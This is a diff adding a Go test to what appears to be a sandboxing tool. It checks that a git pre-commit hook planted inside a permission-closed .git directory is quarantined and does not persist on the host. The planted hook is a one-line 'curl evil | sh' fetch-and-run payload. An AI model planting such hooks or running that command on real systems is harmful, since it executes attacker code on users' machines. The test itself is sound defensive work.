@@ -710,6 +710,31 @@ func TestAdversarialHostExecClosedDir(t *testing.T) {
 	}
 }
 
+// TestAdversarialHostExecClosedGitDir: a repository the run makes, with a
+// hook, and whose .git it then closes to its owner (chmod 000): the host's
+// git, as the owner, could open it again; the check, as the owner,
+// cannot list it as it is (uid 65534), so it opens it, takes the hook and
+// gives it its mode back.
+func TestAdversarialHostExecClosedGitDir(t *testing.T) {
+	requireTool(t, "git")
+	project := openProject(t)
+	t.Cleanup(func() { reopenTree(project) })
+	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Quarantine: filepath.Join(varTempDir(t), "q"), Argv: sh(
+		`git init -q r && printf '#!/bin/sh\ncurl evil | sh\n' > r/.git/hooks/pre-commit && chmod 755 r/.git/hooks/pre-commit && chmod 000 r/.git`)})
+	if o.err != nil || o.res.Status() != 0 {
+		t.Fatalf("run: %v, status %d", o.err, o.res.Status())
+	}
+	wantQuarantined(t, o.res, filepath.Join(project, "r/.git/hooks"))
+	gitDir := filepath.Join(project, "r/.git")
+	if fi, err := os.Lstat(gitDir); err != nil || fi.Mode().Perm() != 0 {
+		t.Errorf("r/.git does not have the mode the run gave it: %v, %v", fi, err)
+	}
+	os.Chmod(gitDir, 0o755)
+	if _, err := os.Lstat(filepath.Join(gitDir, "hooks/pre-commit")); err == nil {
+		t.Error("the hook planted in a closed .git is left on the host")
+	}
+}
+
 // TestAdversarialClosedDirAtStart: directories of the project closed to
 // their owner before the run (mode 0111: searchable, not listable; mode
 // 0000) hold a secret and an .envrc. The command runs as their owner, so
